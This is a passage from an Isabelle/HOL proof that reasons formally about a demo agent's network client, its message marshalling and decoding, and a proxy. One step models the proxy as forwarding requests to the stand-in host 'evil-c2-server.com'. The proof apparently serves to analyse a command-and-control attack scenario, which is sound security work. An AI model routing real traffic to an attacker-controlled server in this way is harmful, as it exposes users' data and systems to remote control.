  have 4: "reaches (ag_client ?en) (parachuteURL ?en) (app_server (\<lambda>_. ''{...}'') ?others demo_web pg (app_start pg))"
    by (simp add: demo_agent_def parachuteURL_def getEnv_def net_client_reaches)
  have 5: "\<forall>m. ag_marshal ?en m \<noteq> []" "\<forall>m. \<exists>e. ag_decode_list ?en m = Inl e" "\<forall>url. ag_parse_error ?en url = None"
    by (simp_all add: demo_agent_def)
  have 6: "uses_proxy (ag_proxy_client ?en) (handleHTTPRequest (\<lambda>_. Inr ''evil-c2-server.com'') answering (pg_forward pg))"
    by (simp add: demo_agent_def net_proxy_client_uses)
  have "ag_marshal ?en m = ''{...}''" for m by (simp add: demo_agent_def)
  with agent_demo_outcome [OF pg(1) 1 2 3 4 5(1) _ 6 refl 5(3)] 5(2) pg show ?thesis by (intro exI [of _ pg]) simp
qed

end
